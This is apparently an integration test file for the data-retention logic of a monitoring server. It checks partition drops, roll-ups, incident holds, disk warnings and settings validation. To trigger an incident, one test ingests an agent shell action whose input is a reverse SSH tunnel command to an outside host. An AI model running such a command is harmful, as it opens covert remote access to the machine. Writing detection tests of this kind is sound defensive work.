// Old readings are dropped by day on a real database: rolled up first, and never what an incident holds.

import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SessionId } from './protocol/ids.ts'
import { RetentionView } from './protocol/retention.ts'
import { startForTest, type TestServer } from './start-for-test.ts'
import { type EmbeddedPostgres, startEmbeddedPostgres } from './store/embedded-postgres.ts'
import { readGpuSeries } from './store/gpu-series.ts'
import { hasRolledUpBefore } from './store/retention.ts'
import { readSessionPoints } from './store/samples.ts'

const dayMs = 86_400_000
let folder: string
let database: EmbeddedPostgres
let server: TestServer
let pool: pg.Pool
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'vigil-retention-'))
  database = await startEmbeddedPostgres({ dataDir: folder })
  server = await startForTest({ DATABASE_URL: database.connectionString, VIGIL_DISK_WARN: '1000000' })
  pool = new pg.Pool({ connectionString: database.connectionString })
}, 60_000)
afterAll(async () => {
  await pool.end()
  await server.stop()
  await database.stop()
  await rm(folder, { recursive: true, force: true })
})

const now = Date.now()
const today = now - (now % dayMs)
const call = async (method: string, pathname: string, body?: object) =>
  await server.api(pathname, {
    method,
    ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
  })

async function reading(session: string, atMs: number, bytes = 1): Promise<void> {
  await pool.query(
    `INSERT INTO session_sample (at, session, host, cpu_percent, memory_bytes, bytes_out, bytes_in, process_count, connection_count)
     VALUES (to_timestamp($1 / 1000.0), $2, 'n1', 50, 1, $3, $3, 1, 1)`,
    [atMs, session, bytes],
  )
}
async function count(table: string, session: string): Promise<number> {
  const { rows } = await pool.query(`SELECT count(*)::int AS n FROM ${table} WHERE session = $1`, [session])
  return rows[0].n
}

async function makeDay(dayStartMs: number): Promise<void> {
  const day = new Date(dayStartMs).toISOString().slice(0, 10)
  const to = new Date(dayStartMs + dayMs).toISOString().slice(0, 10)
  await pool.query(
    `CREATE TABLE session_sample_${day.replaceAll('-', '')} PARTITION OF session_sample FOR VALUES FROM ('${day}Z') TO ('${to}Z')`,
  )
}

async function runToItsEnd(): Promise<void> {
  let started = { id: '' }
  // A run is told as done a moment before the next may begin.
  const begin = async () => {
    const answer = await call('POST', '/api/retention/run')
    started = (await answer.json()) as { id: string }
    return answer.status
  }
  await expect.poll(begin, { timeout: 10_000 }).toBe(202)
  await expect
    .poll(async () => ((await (await server.api(`/api/jobs/${started.id}`)).json()) as { state: string }).state, {
      timeout: 20_000,
    })
    .toBe('done')
}

describe('retention', () => {
  it('drops days of readings that are too old, keeps their minutes, and keeps every reading of a session in an incident', async () => {
    // given: readings of forty days ago, of one session in an incident and one in none; one of yesterday
    const [old, yesterday] = [today - 40 * dayMs, today - dayMs]
    await makeDay(old)
    for (const session of ['ep-held', 'ep-free']) {
      for (const atMs of [old + 1_000, old + 2_000, yesterday]) await reading(session, atMs)
    }
    // and one that came later than its day's table was gone
    await reading('ep-free', today - 50 * dayMs)
    const input = 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'
    const data = { call: 'c1', tool: 'shell', input }
    await call('POST', '/api/ingest/events', { v: 1, kind: 'action.started', atMs: now, session: 'ep-held', data })
    const view = async () => RetentionView.parse(await (await server.api('/api/retention')).json())
    await expect.poll(async () => (await view()).holds.sessions, { timeout: 10_000 }).toBe(1)
    expect(await view()).toMatchObject({ days: { readings: 30, minutes: 400 }, assumed: true })

    // when
    await runToItsEnd()

    // then
    expect(await count('session_sample', 'ep-held')).toBe(3)
    expect(await count('session_sample', 'ep-free')).toBe(1)
    for (const session of ['ep-held', 'ep-free'])
      expect(await count('session_sample_minute', session)).toBeGreaterThan(0)
    // two readings a second apart; what came later than its day's table was gone is of no day that is dropped
    expect(await count('session_sample_step', 'ep-held')).toBe(1)
    expect(await count('session_sample_step', 'ep-free')).toBe(1)
    expect(await view()).toMatchObject({ lastRun: { daysDropped: 1, rowsHeld: 2 } })

    // and again: nothing more, and what is held stays
    await runToItsEnd()
    expect(await count('session_sample', 'ep-held')).toBe(3)
    expect((await view()).lastRun).toMatchObject({ daysDropped: 0, rowsHeld: 0 })
  })

  it('knows of minutes that are too old, and of none that an incident holds', async () => {
    const minuteMs = today - 500 * dayMs
    const minute = (session: string) =>
      pool.query(
        `INSERT INTO session_sample_minute SELECT (json_populate_record(of, json_build_object('minute', to_timestamp($1 / 1000.0), 'session', $2::text))).*
         FROM (SELECT of FROM session_sample_minute AS of LIMIT 1) AS one`,
        [minuteMs, session],
      )
    const isDue = (...sessions: string[]) =>
      hasRolledUpBefore(pool, 'minute', today - 400 * dayMs, { sessions: sessions as SessionId[], hosts: [] })
    expect(await isDue()).toBe(false)
    await minute('ep-held')
    expect(await isDue('ep-held')).toBe(false)
    expect(await isDue()).toBe(true)
    await runToItsEnd()
    expect(await isDue('ep-held')).toBe(false)
    await minute('ep-free')
    expect(await isDue('ep-held')).toBe(true)
    await runToItsEnd()
    expect(await isDue('ep-held')).toBe(false)
  })

  it('draws what is gone from steps of ten seconds, and drops those when their own time is over, but for what is held', async () => {
    // given: two days of one session in no incident and of a GPU, of which nothing single is left
    const [gone, older] = [today - 45 * dayMs, today - 120 * dayMs]
    for (const day of [gone, older]) await makeDay(day)
    const atMs = gone + 3_600_000
    for (let second = 0; second < 60; second += 1) await reading('ep-steps', atMs + second * 1_000, second * 1_000)
    for (const session of ['ep-steps', 'ep-held']) await reading(session, older + 1_000)
    await pool.query(
      `INSERT INTO gpu_sample (at, host, gpu, gpu_index, util_percent, throttling)
       SELECT to_timestamp($1 / 1000.0) + i * interval '1 second', 'n7', 'GPU-1', 0, CASE WHEN i = 25 THEN 100 ELSE 0 END, '{}' FROM generate_series(0, 59) AS i`,
      [atMs],
    )
    await runToItsEnd()
    expect(await count('session_sample', 'ep-steps')).toBe(0)
    // then: charts of hours have them, and keep the peak
    const points = await readSessionPoints(pool, 'ep-steps' as SessionId, 100)
    expect(points.map((point) => point.atMs)).toEqual([10, 20, 30, 40, 50].map((second) => atMs + second * 1_000))
    expect(points.every((point) => point.bytesOutPerSecond === 1_000)).toBe(true)
    await pool.query(`DELETE FROM gpu_sample WHERE host = 'n7'`)
    const span = { host: 'n7', names: ['GPU-1'], fromMs: atMs, toMs: atMs + 60_000 }
    const fine = await readGpuSeries(pool, { ...span, stepMs: 10_000 })
    expect(fine.steps.map((step) => step.utilPercentMost)).toEqual([0, 0, 100, 0, 0, 0])
    const coarse = await readGpuSeries(pool, { ...span, stepMs: 60_000 })
    expect(coarse.steps).toMatchObject([{ atMs, utilPercentMost: 100 }])
    // and after 90 days those are gone, too, but for what is held
    expect(await count('session_sample_step', 'ep-steps')).toBe(6)
    const { rows } = await pool.query(`SELECT session FROM session_sample_step WHERE at < now() - interval '100 days'`)
    expect(rows).toEqual([{ session: 'ep-held' }])
  })

  it('tells everywhere that the disk is low, and stays alive and ready', async () => {
    const view = async () => RetentionView.parse(await (await server.api('/api/retention')).json())
    await expect.poll(async () => (await view()).disk?.level, { timeout: 10_000 }).toBe('low')
    expect((await view()).disk).toMatchObject({ warnBytes: 1e15, shedBytes: 0, databaseIsElsewhere: true, shedRows: 0 })
    const health = await fetch(`${server.url}/healthz`)
    expect([health.status, await health.text()]).toEqual([200, 'ok\nthe disk is low\n'])
    expect((await fetch(`${server.url}/readyz`)).status).toBe(200)
    expect(await (await server.api('/metrics')).text()).toMatch(/^vigil_disk_level 1$/m)
    const occasions = async () =>
      ((await (await server.api('/api/occasions')).json()) as { occasions: { key: string }[] }).occasions
    await expect.poll(async () => (await occasions()).map(({ key }) => key), { timeout: 10_000 }).toContain('disk:data')
  })

  it('refuses days that make no sense, and writes in the audit who changed them', async () => {
    expect((await call('PUT', '/api/retention', { readings: 0, minutes: 10 })).status).toBe(422)
    expect((await call('PUT', '/api/retention', { readings: 30, minutes: 10 })).status).toBe(422)
    expect((await call('PUT', '/api/retention', { readings: 30, steps: 10, minutes: 60 })).status).toBe(422)
    expect((await call('PUT', '/api/retention', { readings: 30, steps: 90, minutes: 60 })).status).toBe(422)
    expect((await call('PUT', '/api/retention', { readings: 7, minutes: 90 })).status).toBe(200)
    const audit = (await (await server.api('/api/audit')).json()) as { entries: { change: string; subject: string }[] }
    expect(JSON.stringify(audit)).toContain('readings 7 days, minutes 90 days')
  })
})
